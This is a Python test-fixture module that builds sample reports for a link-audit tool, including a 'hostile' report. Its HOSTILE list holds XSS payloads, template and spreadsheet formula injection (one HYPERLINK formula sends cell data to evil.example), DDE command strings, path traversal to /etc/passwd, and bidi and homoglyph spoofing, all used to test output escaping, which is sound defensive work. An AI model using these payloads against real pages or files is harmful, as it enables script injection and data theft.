"""Reports to render: empty, tiny, huge, hostile, partial, and the first of their kind."""

from collections.abc import Iterable
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from random import Random

from audit.model.finding import Certainty, Finding, Occurrence, Severity, fingerprint
from audit.model.location import Location
from audit.model.report import (
    Baseline,
    Closed,
    Coverage,
    Health,
    HostRow,
    InitiativeRow,
    Line,
    Message,
    NotJudged,
    Report,
    TargetRow,
)
from audit.model.run import Canary, Fault, Notice, Run, RunStatus
from audit.model.standing import Check, FixedBy, Record, State
from audit.model.verdict import Judgement, Verdict
from audit.ports import ReportRow

NIGHT = datetime(2026, 11, 21, 1, 2, 3, tzinfo=UTC)

KINDS: tuple[tuple[str, str, Severity, Certainty, Verdict, str, int, str, str, str], ...] = (
    (
        "link-not-found",
        "link",
        Severity.FIX,
        Certainty.CONFIRMED,
        Verdict.BROKEN,
        "status-404",
        40,
        "The page has been removed.",
        "Visitors who click get an error page and may give up.",
        "Find where the content lives now and link to that. If it is gone for good, remove the link and keep the sentence.",
    ),
    (
        "link-site-gone",
        "link",
        Severity.FIX,
        Certainty.CONFIRMED,
        Verdict.BROKEN,
        "name-not-found",
        10,
        "The whole website no longer exists.",
        "Every link to it fails, and someone else could register the name.",
        "Ask the partner for the new website. Until then, remove the link.",
    ),
    (
        "link-unsafe",
        "link",
        Severity.REMOVE,
        Certainty.CONFIRMED,
        Verdict.UNSAFE,
        "threat-list",
        1,
        "This link leads to an unsafe or taken-over website.",
        "Visitors could be tricked or harmed, and it looks as if we recommend it.",
        "Remove the link today. Do not open it to test it.",
    ),
    (
        "link-blocked",
        "link",
        Severity.FIX,
        Certainty.CANNOT_TELL,
        Verdict.BLOCKED,
        "status-403",
        15,
        "The website would not let our checker in.",
        "We cannot tell whether it works for visitors.",
        "Open it yourself. If it works, nothing needs to be done.",
    ),
    (
        "link-parked",
        "link",
        Severity.FIX,
        Certainty.CONFIRMED,
        Verdict.PARKED,
        "parking-page",
        3,
        "The address is for sale; the original site is gone.",
        "Visitors land on advertisements.",
        "Ask the partner for the new website. Until then, remove the link.",
    ),
    (
        "link-moved",
        "link",
        Severity.TIDY,
        Certainty.CONFIRMED,
        Verdict.REDIRECTED_PERMANENT,
        "status-301",
        20,
        "The page has moved; the old link still works.",
        "It works today, but old addresses are switched off one day.",
        "When you next edit, change the link to the new address.",
    ),
    (
        "content-cta-missing",
        "content.call_to_action",
        Severity.FIX,
        Certainty.CONFIRMED,
        Verdict.OK,
        "",
        6,
        "There is no call to action.",
        "Visitors who are convinced have nothing to click.",
        "Add one link or sentence: what should the reader do next?",
    ),
    (
        "content-stale",
        "content.updated_at",
        Severity.TIDY,
        Certainty.CONFIRMED,
        Verdict.OK,
        "",
        5,
        "Not changed for 12 months.",
        "Partners, numbers and dates may be out of date.",
        "Read it through. If all is right, save it with today's date.",
    ),
)
"""Rule, family, severity, certainty, verdict, reason, weight in the big report, title, why, do."""

HOSTILE: tuple[str, ...] = (
    '"><svg onload=window.pwned=1>',
    "<script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<img src=//evil.example/x.png>",
    "javascript:window.pwned=1",
    "JaVa\tScRiPt:window.pwned=1",
    "\x01javascript:window.pwned=1",
    "data:text/html,<script>parent.pwned=1</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "{{ 7*7 }}{% raw %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "]]><!--",
    "--><script>window.pwned=1</script>",
    "&#x6a;avascript:window.pwned=1",
    "&lt;b&gt;&amp;quot;",
    "' onmouseover='window.pwned=1",
    "` onfocus=window.pwned=1 autofocus `",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<svg><style><img/src=x onerror=window.pwned=1></style>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><input name=a autofocus onfocus=window.pwned=1>",
    "<a href=javascript:window.pwned=1>click</a>",
    "<details open ontoggle=window.pwned=1>",
    "https://user:secret@evil.example/\u202egnp.exe",
    "\u202eelpmaxe.live//:sptth\u202c",
    "\u2066\u2067\u2068 unbalanced isolates",
    "zero\u200bwidth\u200djoin\ufeffers",
    "nul\x00bell\x07escape\x1b[2J",
    "line\u2028separator\u2029paragraph\r\nbreaks",
    "lone surrogate \ud800 here",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "a" * 2000,
    "https://example.org/" + "x" * 2000,
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 🏳️‍🌈 e\u0301 Ａ",
    "مرحبا بالعالم",
    "../../../../etc/passwd",
    "http://аррӏе.example/",
    "https://example.org/?q=<script>window.pwned=1</script>#\"'><img src=x>",
)
"""Texts that some page, title, file name or address may carry one day."""


def run(status: RunStatus = RunStatus.COMPLETE, *, why: str = "") -> Run:
    return Run(
        id="run_01jd9h0000000000000000",
        kind="scheduled",
        scope="collection:initiatives",
        ruleset="1",
        started_at=NIGHT,
        finished_at=NIGHT + timedelta(minutes=41),
        status=status,
        why=why,
        canaries=tuple(
            Canary(url=f"https://canary-{number}.example/", when=when, ok=status is not RunStatus.INCONCLUSIVE)
            for when in ("first", "last")
            for number in range(5)
        ),
    )


def line(
    kind: int,
    *,
    initiative: InitiativeRow,
    url: str = "https://river.example/apply-2025",
    state: State | None = State.OPEN,
    days: int = 19,
    field: str = "description",
    text: str = "Apply by June",
    certainty: Certainty | None = None,
) -> Line:
    """One finding of one of `KINDS`."""
    rule, family, severity, sure, verdict, reason, _, title, why, do = KINDS[kind]
    is_link = family == "link"
    finding = Finding(
        rule=rule,
        family=family,
        severity=severity,
        certainty=certainty or sure,
        entry_id=initiative.id,
        field=field,
        occurrences=(
            Occurrence(
                location=Location(
                    path=initiative.path,
                    field=f"{field}.3.content.1",
                    line=24,
                    column=7,
                    sentence=f"The places are limited. {text} and bring two people along." if is_link else "",
                ),
                text=text if is_link else "",
                href=url if is_link else "",
            ),
        ),
        target_key=url if is_link else "",
        target_id=fingerprint("t1_", url) if is_link else "",
    )
    return Line(
        record=Record(
            finding=finding,
            state=state,
            first_seen=NIGHT - timedelta(days=days),
            last_seen=NIGHT,
            confirmed_at=NIGHT - timedelta(days=max(days - 1, 0)),
            new_reason="target_changed" if state is State.NEW else "",
        ),
        message=Message(title=title, why=why, do=do, short=title[:40]),
        initiative=initiative.title,
        field_label=field.replace("_", " ").capitalize(),
        target_url=url if is_link else "",
        verdict=str(verdict) if is_link else "",
        final_url="https://river.example/apply" if rule == "link-moved" else "",
        suggestion="https://river.example/apply" if rule == "link-moved" else "",
        evidence=f"{reason} after GET, 312 ms" if is_link else "",
        curl=f"curl -sSIL '{url}'" if is_link else "",
        kind="inline" if is_link else "",
        edit_url=f"https://cms.example/{initiative.id}",
    )


def initiative(number: int, *, title: str = "", partner: str = "River Trust", health: str = "broken") -> InitiativeRow:
    return InitiativeRow(
        id=f"ini_{number:05}",
        title=title or f"Water for every school {number}",
        path=f"content/collections/initiatives/water-for-every-school-{number}.md",
        collection="initiatives",
        partner=partner,
        owner_ref="o1_7f3a",
        owner_source="updated_by",
        updated_at=NIGHT - timedelta(days=18),
        content_sha256=f"{number:064x}",
        health=health,
        links=14,
        judged=14,
    )


def arranged(
    lines: Iterable[Line] = (),
    initiatives: Iterable[InitiativeRow] = (),
    *,
    closed: Iterable[Closed] = (),
    at: Run | None = None,
    baseline: Baseline | None = None,
    hosts: Iterable[HostRow] = (),
    coverage: Coverage | None = None,
    day: date = date(2026, 11, 21),
    revision: int = 1,
) -> Report:
    """A report of these lines and initiatives, with counts that agree with them."""
    lines, initiatives = tuple(lines), tuple(initiatives)
    targets = targets_of(lines)
    links = sum(row.links for row in initiatives)
    clean, broken = (sum(row.health == word for row in initiatives) for word in ("clean", "broken"))
    return Report(
        date=day,
        revision=revision,
        generated_at=NIGHT + timedelta(minutes=42),
        timezone="Europe/Berlin",
        base_url="https://audit.example.org/reports",
        site_name="Partner initiatives",
        run=at or run(),
        tool_version="0.1.0",
        user_agent="initiative-audit/0.1.0 (+https://audit.example.org/contact)",
        ruleset="1",
        baseline=baseline or Baseline(report_id="2026-11-19", comparable=True, skipped=(("2026-11-20", "partial"),)),
        coverage=coverage
        or Coverage(
            initiatives=len(initiatives),
            initiatives_read=len(initiatives),
            drafts=2,
            skipped=(("draft", 2),),
            links=links,
            internal=3,
            targets=len(targets),
            judged=links - 2 if links else 0,
            not_judged=(NotJudged(reason="blocked", links=2, initiatives=1),) if links else (),
        ),
        health=Health(
            percent=clean * 100 // (clean + broken) if clean + broken else None,
            clean=clean,
            broken=broken,
            unknown=0,
            in_grace=0,
            comparable=True,
            like_for_like_initiatives=len(initiatives),
            change_points=1.0,
            median_days_open=9,
        ),
        lines=lines,
        closed=tuple(closed),
        initiatives=initiatives,
        targets=targets,
        hosts=tuple(hosts),
        rules=tuple((kind[0], kind[2]) for kind in KINDS),
        previous_id="2026-11-20",
    )


def targets_of(lines: tuple[Line, ...]) -> tuple[TargetRow, ...]:
    """The targets that lines speak of."""
    mentions: dict[str, list[Line]] = {}
    for one in lines:
        if one.finding.target_id:
            mentions.setdefault(one.finding.target_id, []).append(one)
    return tuple(
        TargetRow(
            check=Check(
                target_id=target_id,
                url=group[0].target_url,
                host=[*group[0].target_url.split("/"), "", ""][2],
                at=NIGHT,
                judgement=Judgement(verdict=Verdict(group[0].verdict), reason="status-404", final_url=group[0].final_url or None),
                method="GET",
                status=404,
                ms=312,
            ),
            used_in=len({one.finding.entry_id for one in group}),
            links=len(group),
        )
        for target_id, group in sorted(mentions.items())
    )


def closed(number: int, *, state: State = State.FIXED, fixed_by: FixedBy | None = FixedBy.LINK_REPLACED) -> Closed:
    over = line(0, initiative=initiative(number), url=f"https://old.example/{number}")
    return Closed(
        record=replace(over.record, state=state, closed_at=NIGHT, fixed_by=fixed_by),
        initiative=over.initiative,
        title=over.message.title,
        state=state,
        fixed_by=fixed_by,
        days_open=12,
    )


def empty() -> Report:
    """F0: nothing was found because there is nothing."""
    return arranged()


def nothing_wrong() -> Report:
    """Two initiatives, not a single problem."""
    return arranged(initiatives=(initiative(1, health="clean"), initiative(2, health="clean")))


def tiny() -> Report:
    """F1: one initiative, one problem."""
    only = initiative(1, title="Water for every school")
    return arranged((line(0, initiative=only, state=State.NEW, days=2),), (only,))


def several() -> Report:
    """One problem of every kind, and something of every section."""
    rows = tuple(initiative(number, partner=("River Trust", "Open Harbour", "")[number % 3]) for number in range(6))
    states = (State.NEW, State.OPEN, State.NEW, State.OPEN, State.CAME_BACK, State.CHANGED, State.OPEN, State.OPEN)
    lines = [
        line(
            kind,
            initiative=rows[kind % 6],
            state=states[kind],
            days=kind * 3,
            url=f"https://host-{kind}.example/page?id={kind}",
            field="call_to_action" if kind == 6 else "description",
        )
        for kind in range(len(KINDS))
    ]
    lines += [line(0, initiative=row, url="https://partner-b.example/annual/2024", text="Annual report") for row in rows]
    lines.append(line(0, initiative=rows[0], url="https://first-failure.example/", certainty=Certainty.SUSPECTED))
    clean = tuple(initiative(number, health="clean") for number in range(10, 20))
    event = HostRow(host="partner-a.example", links=61, initiatives=38, failing=60, event="stopped_answering", since=date(2026, 11, 19))
    return arranged(
        lines,
        rows + clean,
        closed=(closed(30), closed(31, state=State.LEFT, fixed_by=None), closed(32, state=State.NOT_RECHECKED, fixed_by=None)),
        hosts=(event,),
    )


def first() -> Report:
    """FN: nothing to compare with."""
    report = several()
    return replace(
        report,
        baseline=Baseline(report_id=None, comparable=False, reason="first-run"),
        previous_id=None,
        closed=(),
        lines=tuple(replace(one, record=replace(one.record, state=None, new_reason="")) for one in report.lines),
        health=replace(report.health, like_for_like_initiatives=None, change_points=None),
    )


def partial() -> Report:
    """FP: the time ran out."""
    report = several()
    return replace(
        report,
        run=replace(
            run(RunStatus.PARTIAL, why="The time limit came before everything was checked."),
            warnings=(Notice(code="deadline", message="Late."),),
        ),
        closed=(),
        coverage=replace(report.coverage, judged=int(report.coverage.links * 0.61), not_judged=(NotJudged(reason="deadline", links=87),)),
        health=replace(report.health, comparable=False),
    )


def inconclusive() -> Report:
    """Our own connection was down."""
    report = first()
    faults = (Fault(stage="probe", subject="https://river.example/", message="RuntimeError: no route"),)
    return replace(
        report,
        run=replace(
            run(RunStatus.INCONCLUSIVE, why="Something was wrong with our own connection: 10 of 10 looks at known-good websites failed."),
            faults=faults,
        ),
        coverage=replace(report.coverage, judged=0, not_judged=(NotJudged(reason="inconclusive", links=report.coverage.links),)),
        health=replace(report.health, comparable=False, percent=None),
    )


def hostile() -> Report:
    """FX: every text that comes from outside carries something nasty."""
    rows, lines = [], []
    for number, text in enumerate(HOSTILE):
        row = replace(initiative(number), id=f"path:{text}", title=text, path=text, partner=text, owner_ref="o1_x")
        rows.append(row)
        plain = line(number % len(KINDS), initiative=row, url=text, text=text, state=State.NEW)
        spot = plain.finding.occurrences[0]
        spot = replace(spot, location=replace(spot.location, sentence=f"Before {text} after.", field=text), href=text, text=text)
        finding = replace(plain.finding, occurrences=(spot, spot), field=text)
        message = replace(plain.message, title=f"{plain.message.title} {text}", why=text, do=text)
        lines.append(
            replace(
                plain,
                record=replace(plain.record, finding=finding),
                message=message,
                field_label=text,
                final_url=text,
                suggestion=text,
                evidence=text,
                curl=text,
                edit_url=text,
            )
        )
    report = arranged(
        lines,
        rows,
        closed=(closed(1),),
        hosts=tuple(
            HostRow(host=text, links=3, initiatives=2, failing=1, event="stopped_answering", since=date(2026, 11, 19)) for text in HOSTILE
        ),
    )
    warnings = tuple(Notice(code="host_event", message=text, host=text) for text in HOSTILE)
    faults = tuple(Fault(stage="probe", subject=text, message=text) for text in HOSTILE)
    return replace(report, site_name=HOSTILE[3], run=replace(report.run, why=HOSTILE[0], warnings=warnings, faults=faults))


def huge(initiatives: int = 2_000, findings: int = 10_000, targets: int = 2_300, hosts: int = 700) -> Report:
    """F10k: a large collection in which much is wrong."""
    chance = Random(20261121)
    rows = [
        replace(
            initiative(number, partner=f"Partner {number % 140}", title=f"Initiative number {number} for a better river"), health="clean"
        )
        for number in range(initiatives)
    ]
    weights = [kind[6] for kind in KINDS]
    of_target = chance.choices(
        [number for number, kind in enumerate(KINDS) if kind[1] == "link"],
        weights=[w for w, k in zip(weights, KINDS, strict=True) if k[1] == "link"],
        k=targets,
    )
    lines: dict[str, Line] = {}
    while len(lines) < findings:
        kind = chance.choices(range(len(KINDS)), weights=weights)[0]
        row = chance.choice(rows[: initiatives * 9 // 10])
        target = chance.randrange(targets)
        if KINDS[kind][1] == "link":
            kind = of_target[target]
        state = chance.choices((State.NEW, State.OPEN, State.CAME_BACK, State.CHANGED), weights=(5, 90, 2, 3))[0]
        found = line(
            kind,
            initiative=row,
            url=f"https://host-{target % hosts}.example/a/longer/path/to/the/page-{target}",
            state=state,
            days=chance.randrange(90) if state is not State.NEW else chance.randrange(2),
            field=chance.choice(("description", "summary", "call_to_action")),
        )
        lines[found.finding.id] = found
    broken = {one.finding.entry_id for one in lines.values() if one.label in ("remove", "fix")}
    rows = [replace(row, health="broken" if row.id in broken else "clean") for row in rows]
    order = {"remove": 0, "fix": 1, "check": 2, "tidy": 3}
    listed = sorted(lines.values(), key=lambda one: (order[one.label], one.record.first_seen, one.finding.id))
    events = (HostRow(host="host-5.example", links=61, initiatives=38, failing=60, event="stopped_answering", since=date(2026, 11, 19)),)
    return arranged(listed, rows, closed=[closed(number) for number in range(65)], hosts=events)


def row(number: int, *, status: RunStatus = RunStatus.COMPLETE) -> ReportRow:
    """One published report, so many nights before the newest."""
    at = NIGHT - timedelta(days=number)
    trusted = status is RunStatus.COMPLETE
    clean = 1786 - number * 4
    return ReportRow(
        report_id=at.date().isoformat(),
        run=replace(run(status), id=f"run_{number:020}", started_at=at, finished_at=at + timedelta(minutes=41)),
        generated_at=at + timedelta(minutes=42),
        totals={
            "remove": 1,
            "fix": 1237 + number,
            "check": 387,
            "tidy": 933,
            "suspected": 41,
            "new": 31,
            "came_back": 3,
            "fixed": 44,
            "open": 2558 + number,
            "initiatives": 2012,
            "links": 24997,
        },
        health_percent=clean * 100 // 2000 if trusted else None,
        clean=clean,
        broken=2000 - 40 - clean,
        unknown=40,
        coverage_percent=98.45 if trusted else 61.0,
    )


SMALL = (empty, nothing_wrong, tiny, several, first, partial, inconclusive, hostile)
"""One report of every kind but the large one."""
